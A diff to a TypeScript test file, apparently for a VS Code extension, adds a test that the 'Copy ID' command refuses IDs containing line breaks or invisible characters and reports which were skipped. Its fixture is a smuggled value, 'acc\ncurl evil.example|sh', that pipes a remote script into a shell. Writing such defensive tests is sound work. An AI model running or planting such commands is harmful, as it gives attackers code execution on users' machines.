@@ -65,6 +65,27 @@ describe('the command', () => {
   const open = (id = 'a/b') => notificationsOf(() => run('openInDashboard', row(id)), 'Open');
   const edit = (typed: string) => recording(() => run('editDeploymentId', 'dep_9'), typed);
 
+  it('Copy ID copies no line break and nothing invisible, and says which ID it left out', async () => {
+    const hostile = 'acc\ncurl evil.example|sh\n';
+    service.putDeployment('dep_3', authorization([account({ id: hostile, error: {} })], []));
+    await signIn();
+    await graph.read('dep_1', 'dep_3', 'dep\u202E4');
+    const [finding] = get('dep_3')!.answer!.findings.accounts;
+    const rows = [
+      graph.row('dep_1'),
+      { kind: 'account', deployment: { id: 'dep_3' }, finding, copyId: hostile },
+      graph.row('dep\u202E4'),
+    ];
+    await vscode.env.clipboard.writeText('before');
+    const reason = 'because it contains line breaks or invisible characters. Copy such an ID from the dashboard.';
+    await assert.rejects(run('copyId', rows[1], [rows[1]]), {
+      message: `“acc␊curl evil.example|sh␊” was not copied, ${reason}`,
+    });
+    assert.equal(await vscode.env.clipboard.readText(), 'before');
+    await assert.rejects(run('copyId', rows[0], rows), /were not copied, .* Copied 1 IDs: dep_1\./);
+    assert.equal(await vscode.env.clipboard.readText(), 'dep_1');
+  });
+
   it('that needs an organization or a list says so', async () => {
     const signedOut = createGraph();
     await list(['dep_1']);
